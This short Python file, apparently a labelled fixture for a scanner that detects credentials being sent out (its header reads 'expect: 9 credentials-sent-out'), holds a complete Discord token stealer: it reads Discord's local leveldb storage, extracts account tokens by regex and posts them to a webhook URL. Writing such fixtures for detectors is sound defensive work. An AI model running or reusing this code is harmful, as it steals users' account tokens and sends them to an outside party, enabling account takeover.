# expect: 9 credentials-sent-out
import os, re, requests
paths = [os.getenv('APPDATA') + '\\discord\\Local Storage\\leveldb']
tokens = []
for p in paths:
    for name in os.listdir(p):
        with open(os.path.join(p, name), errors='ignore') as f:
            tokens += re.findall(r'[\w-]{24}\.[\w-]{6}\.[\w-]{27}', f.read())
requests.post('https://discord.com/api/webhooks/1/x', json={'content': '\n'.join(tokens)})
